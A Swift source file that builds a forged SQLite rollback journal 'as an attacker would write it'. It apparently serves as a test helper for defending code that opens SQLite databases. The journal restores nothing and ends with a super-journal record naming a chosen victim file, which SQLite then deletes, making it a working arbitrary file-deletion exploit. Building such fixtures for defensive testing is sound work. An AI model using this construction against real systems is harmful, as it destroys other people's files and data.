import Foundation

/// A rollback journal as an attacker would write it.
package enum ForeignJournal {
    /// Puts a journal beside a database that restores nothing, and ends in the name of another file: SQLite deletes such a file
    /// after the rollback, as a super-journal that is no longer needed (https://www.sqlite.org/fileformat.html, 3).
    package static func write(beside database: String, naming victim: String) throws {
        let magic: [UInt8] = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7]
        let name = Array(victim.utf8)
        let size = try FileManager.default.attributesOfItem(atPath: database)[.size] as? Int ?? 0
        let pageSize: UInt32 = 4096
        var bytes = magic + [0, 0, 0, 0] + [0, 0, 0, 7] + bigEndian(UInt32(size) / pageSize) + bigEndian(512)
        bytes += bigEndian(pageSize)
        bytes += [UInt8](repeating: 0, count: 512 - bytes.count)
        bytes += bigEndian(0x4000_0000 / pageSize + 1) + name + bigEndian(UInt32(name.count))
        // SQLite adds bytes as characters, which have signs.
        bytes += bigEndian(UInt32(bitPattern: name.reduce(0) { $0 &+ Int32(Int8(bitPattern: $1)) })) + magic
        try Data(bytes).write(to: URL(filePath: database + "-journal"))
    }

    private static func bigEndian(_ number: UInt32) -> [UInt8] {
        withUnsafeBytes(of: number.bigEndian) { Array($0) }
    }
}
